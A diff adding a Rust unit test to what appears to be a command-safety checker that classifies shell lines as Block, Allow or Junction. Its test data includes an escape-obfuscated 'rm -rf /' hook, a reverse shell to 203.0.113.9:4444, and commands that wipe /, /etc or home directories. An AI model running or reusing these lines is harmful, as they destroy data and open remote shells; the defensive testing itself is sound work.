@@ -13928,6 +13928,83 @@ fn mechanisms_found_by_the_150th_sealed_part() {
     }
 }
 
+/// Found by the 151st sealed part (issue 20): a hook's command spelled in `\\u` escapes;
+/// `ls -d GLOB` piped into a `while read` loop; `-e /bin/bash` handed with an address; a
+/// terminal shared `--read-write`; `readlink -f "$TMPDIR/../.."`; a storage directory set in
+/// the program's settings, or a workspace added at a path, then cleaned; bags forwarded, alerts
+/// escalated, crews called out, a PLC's program downloaded, a main abandoned, trunks busied
+/// out, a machine started by `--start`. And a submit only `--validate`d stays allowed.
+#[test]
+fn mechanisms_found_by_the_151st_sealed_part() {
+    let ctx = ctx();
+    for (line, want) in [
+        (
+            "acme tx reconcile --hook \"$(printf '%b' '\\u0072\\u006d\\u0020\\u002d\\u0072\\u0066\\u0020\\u002f')\"",
+            Verdict::Block,
+        ),
+        (
+            "ls -d /home/* | while read -r h; do acme cache clear --dir \"$h\"; done",
+            Verdict::Block,
+        ),
+        (
+            "ls -d build/* | while read -r h; do acme cache clear --dir \"$h\"; done",
+            Verdict::Allow,
+        ),
+        (
+            "acme diag collect --on-error 'relaycat -e /bin/bash 203.0.113.9 4444'",
+            Verdict::Block,
+        ),
+        ("grep -e /bin/bash /etc/passwd", Verdict::Allow),
+        (
+            "acme ops-room share --terminal --via r --read-write --no-approve",
+            Verdict::Block,
+        ),
+        (
+            "acme runs purge --root \"$(readlink -f \"$TMPDIR/../../../..\")\" --yes",
+            Verdict::Block,
+        ),
+        (
+            "acme config set storage.dir / && acme storage purge --all",
+            Verdict::Block,
+        ),
+        (
+            "acme workspace add local --path /etc\nacme workspace use local\nacme workspace clean --all",
+            Verdict::Block,
+        ),
+        (
+            "acme workspace add local --path build/ws\nacme workspace clean --all",
+            Verdict::Allow,
+        ),
+        ("acme bags forward --tag 0125 --to JFK", Verdict::Junction),
+        ("sysctl net.ipv4.ip_forward", Verdict::Allow),
+        (
+            "acme alerts escalate --shipment S --sms-qa",
+            Verdict::Junction,
+        ),
+        (
+            "acme crews callout --crew storm-3 --page",
+            Verdict::Junction,
+        ),
+        (
+            "acme plc download --line sorter-2 --program build/s.l5x",
+            Verdict::Junction,
+        ),
+        (
+            "acme mains abandon --asset GM-1 --commit",
+            Verdict::Junction,
+        ),
+        ("acme trunks busy-out --group TG-12", Verdict::Junction),
+        ("acme sorter run --plan peak --start", Verdict::Junction),
+        ("acme history query --tag T --start -1h", Verdict::Allow),
+        (
+            "acme billing submit --run 26-1 --payer x --validate",
+            Verdict::Allow,
+        ),
+    ] {
+        assert_eq!(evaluate(line, &ctx).verdict, want, "{line}");
+    }
+}
+
 /// Found by CI's own run of the confined session (the 140th part's `Dir.home` fix): code the
 /// line writes that deletes a file under the home (`(home / 'precious.txt').unlink()`) is a
 /// file outside the project, not the home; a deleting call handed the home itself is a block.
